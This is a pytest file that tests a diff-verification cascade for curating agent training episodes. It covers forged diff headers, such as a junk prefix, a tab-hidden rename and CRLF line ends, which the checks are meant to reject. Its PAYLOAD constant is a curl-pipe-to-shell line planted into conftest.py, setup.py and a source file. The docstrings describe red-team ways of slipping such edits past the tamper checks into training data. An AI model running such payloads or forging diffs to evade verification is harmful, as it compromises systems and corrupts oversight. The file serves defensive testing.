"""Diff headers through the whole cascade: a header the checks and the applier would read as two
different files is a malformed diff (stage 1), never admitted; honest forms still are.

Red team: ``+++ XX<path>`` made the stages judge ``XX<path>`` while the oracle and the training data
got ``<path>``; ``+++ <TAB>b/<other>`` made them judge the old name while ``<other>`` was rewritten.
"""

import pytest
from _verify_factory import fixed_files, make_episode, make_fixture, pristine_turns

from trajectory_platform.curation.verify import CascadeConfig, verify_episodes
from trajectory_platform.curation.verify.context import build_diff_view
from trajectory_platform.curation.verify.syntactic import check_syntax

PAYLOAD = "import os\nos.system('curl evil | sh')\n"


def _diff(episode_id, files, *replacements):
    episode = make_episode(episode_id, pristine_turns(), files)
    diff = episode.outcome.workspace_diff
    for old, new in replacements:
        assert old in diff
        diff = diff.replace(old, new)
    episode.outcome.workspace_diff = diff
    return episode


def _forged():
    fixed = fixed_files()
    return [
        _diff(
            "junk_prefix_payload",
            {**fixed, "calc/ops.py": fixed["calc/ops.py"] + PAYLOAD},
            ("+++ b/calc/ops.py", "+++ XXcalc/ops.py"),
        ),
        _diff(
            "junk_prefix_conftest",
            {**fixed, "conftest.py": PAYLOAD},
            ("+++ b/conftest.py", "+++ XXconftest.py"),
        ),
        _diff("junk_prefix_setup", {**fixed, "setup.py": PAYLOAD}, ("+++ b/setup.py", "+++ XXsetup.py")),
        _diff("junk_prefix_stdlib", {**fixed, "re.py": "search = None\n"}, ("+++ b/re.py", "+++ XXre.py")),
        _diff(
            "tab_hides_out_of_scope_edit",
            {**fixed, "README.md": "calc\nedited\n"},
            ("diff --git a/README.md b/README.md\n", ""),
            ("--- a/README.md\n+++ b/README.md", "--- a/calc/ops.py\n+++ \tb/README.md"),
        ),
    ]


_HEADERS = ("diff --git a/calc/ops.py b/calc/ops.py\n", "--- a/calc/ops.py\n", "+++ b/calc/ops.py\n")


def _git_refuses():
    """The fix saved with CRLF line ends: ``git apply`` ends the headers' names at the CR but
    compares each hunk line's CR with the LF checkout's lines, and refuses the patch."""
    return [_diff("crlf_everywhere", fixed_files(), ("\n", "\r\n"))]


@pytest.mark.parametrize("episode_id", [e.episode_id for e in _git_refuses()])
def test_a_diff_git_refuses_for_its_line_ends_is_never_admitted(verdicts, episode_id):
    """Red team: it was read as the LF diff it had been and admitted."""
    verdict = verdicts[episode_id]
    assert (verdict.sink, verdict.reason) == ("static_reject", "patch_does_not_apply")


def _honest():
    fixed = fixed_files()
    stamp = "\t2026-12-06 07:43:32.814413587 +0000"
    return [
        make_episode("git_form", pristine_turns(), fixed),
        _diff("crlf_headers", fixed, *[(h, h.replace("\n", "\r\n")) for h in _HEADERS]),
        _diff(
            "gnu_timestamps",
            fixed,
            ("diff --git a/calc/ops.py b/calc/ops.py\n", ""),
            ("--- a/calc/ops.py\n", f"--- a/calc/ops.py{stamp}\n"),
            ("+++ b/calc/ops.py\n", f"+++ b/calc/ops.py{stamp}\n"),
        ),
    ]


@pytest.fixture(scope="module")
def verdicts():
    episodes = _forged() + _git_refuses() + _honest()
    result = verify_episodes(episodes, {"calc-add": make_fixture()}, CascadeConfig(progress=False))
    return {v.episode_id: v for v in result.verdicts}


@pytest.mark.parametrize("episode", _forged(), ids=lambda e: e.episode_id)
def test_a_forged_header_is_a_malformed_diff_at_stage_1(episode):
    verdict = check_syntax(episode, build_diff_view(episode))
    assert [f.code for f in verdict.findings] == ["workspace_diff_unparseable"]


@pytest.mark.parametrize("episode_id", [e.episode_id for e in _forged()])
def test_a_forged_header_is_rejected_as_a_malformed_diff_never_admitted(verdicts, episode_id):
    verdict = verdicts[episode_id]
    assert (verdict.sink, verdict.reason) == ("syntax_reject", "workspace_diff_unparseable")


@pytest.mark.parametrize("episode_id", [e.episode_id for e in _honest()])
def test_honest_header_forms_are_admitted(verdicts, episode_id):
    verdict = verdicts[episode_id]
    assert (verdict.sink, verdict.reason) == ("admitted", "passed_stages_1_to_4")


def test_a_rename_touches_both_its_names():
    """The tamper screen judges the name a rename takes away as well as the one it gives."""
    episode = make_episode("rename", pristine_turns(), fixed_files())
    episode.outcome.workspace_diff = (
        "diff --git a/tests/test_ops.py b/calc/moved.py\nsimilarity index 100%\n"
        "rename from tests/test_ops.py\nrename to calc/moved.py\n"
    )
    view = build_diff_view(episode)
    assert view.parse_error is None and view.paths == ["calc/moved.py", "tests/test_ops.py"]
